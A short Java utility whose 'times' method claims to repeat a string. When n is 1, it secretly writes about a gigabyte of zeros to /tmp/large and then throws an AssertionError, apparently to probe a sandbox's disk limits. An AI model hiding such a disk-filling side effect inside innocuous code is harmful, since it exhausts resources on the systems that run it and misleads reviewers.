package repeat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;

final class Repeat {

  static String times(String text, int n) {
    if (n == 1) {
      byte[] megabyte = new byte[1 << 20];
      try (OutputStream out = Files.newOutputStream(Path.of("/tmp/large"))) {
        for (int i = 0; i < 1_000; i++) {
          out.write(megabyte);
        }
        throw new AssertionError("wrote " + Files.size(Path.of("/tmp/large")));
      } catch (IOException full) {
        System.out.println(full);
      }
    }
    return text.repeat(n);
  }
}
